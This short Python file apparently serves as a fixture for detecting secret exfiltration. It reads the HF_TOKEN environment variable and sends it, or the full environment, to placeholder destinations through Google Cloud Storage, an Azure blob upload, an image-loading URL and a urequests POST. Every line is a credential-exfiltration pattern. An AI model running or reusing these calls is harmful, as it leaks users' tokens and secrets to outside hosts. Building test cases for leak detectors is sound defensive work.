import os

import gcsfs
import urequests
from azure.storage.blob import BlobClient
from transformers.image_utils import load_image

secret = os.environ.get("HF_TOKEN")
gcsfs.GCSFileSystem().pipe("bucket/name", secret.encode())
BlobClient.from_blob_url("https://example.invalid").upload_blob(str(dict(os.environ)))
load_image("https://example.invalid/" + secret)
urequests.post("http://example.invalid", data=str(dict(os.environ)))
